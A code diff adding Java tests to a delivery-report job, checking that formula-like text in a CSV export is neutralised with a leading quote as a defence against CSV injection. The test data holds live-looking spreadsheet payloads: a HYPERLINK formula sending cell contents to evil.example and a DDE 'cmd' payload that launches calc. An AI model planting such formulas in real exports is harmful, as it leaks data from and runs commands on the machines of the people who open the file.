@@ -137,6 +137,40 @@ abstract class DeliveryReportJobTests {
 			.getReadCount()).isEqualTo(15);
 	}
 
+	/**
+	 * Issue 15, item 11: residents' questions (and staff's titles) that a spreadsheet would read as a formula are
+	 * written so that it reads them as text (OWASP CSV injection): a single quote before them, inside the quotes.
+	 */
+	@Test
+	void aFormulaInResidentTextDoesNotSurviveIntoTheCsv() throws Exception {
+		long notice = notice("-2+3 お知らせ", at(day, 9));
+		batch(notice, "LINE", 10, 10, 0);
+		faq("@SUM(1)", true, at(day, 10));
+		unanswered("=HYPERLINK(\"http://evil.example/?\"&A1,\"詳しくはこちら\")", at(day, 8));
+		unanswered("+1+cmd|' /C calc'!A0", at(day, 9));
+		unanswered("\t=1+1", at(day, 9));
+		unanswered("ごみの日は?", at(day, 9));
+
+		JobRun run = jobs.runToEnd("deliveryReportJob", Map.of("date", runDate.toString()));
+
+		String csv = Files.readString(jobs.report(run.id()).orElseThrow().path());
+		java.util.List<String> cells = new java.util.ArrayList<>();
+		for (String section : csv.substring(1).split("\r\n\r\n")) {
+			org.apache.commons.csv.CSVParser.parse(section, org.apache.commons.csv.CSVFormat.DEFAULT)
+				.forEach(record -> record.forEach(cells::add));
+		}
+		assertThat(cells).contains("'-2+3 お知らせ", "'@SUM(1)", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"詳しくはこちら\")",
+				"'+1+cmd|' /C calc'!A0", "'\t=1+1", "ごみの日は?");
+		assertThat(cells).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
+	}
+
+	/** Issue 15, item 10: the report of a run that does not exist is nothing, not a failure (the console's 404). */
+	@Test
+	void aRunThatDoesNotExistHasNoReport() {
+		assertThat(jobs.report(987_654_321L)).isEmpty();
+		assertThat(jobs.run(987_654_321L)).isEmpty();
+	}
+
 	private long notice(String title, OffsetDateTime sentAt) {
 		jdbc.sql("INSERT INTO notices (title, body, severity, alert_status, channels, segment_rule, area_names, area_codes, "
 				+ "state, created_by, sent_at, created_at, updated_at) VALUES (?, 'b', 'INFO', 'ACTUAL', 'LINE', 'all', '', '', "
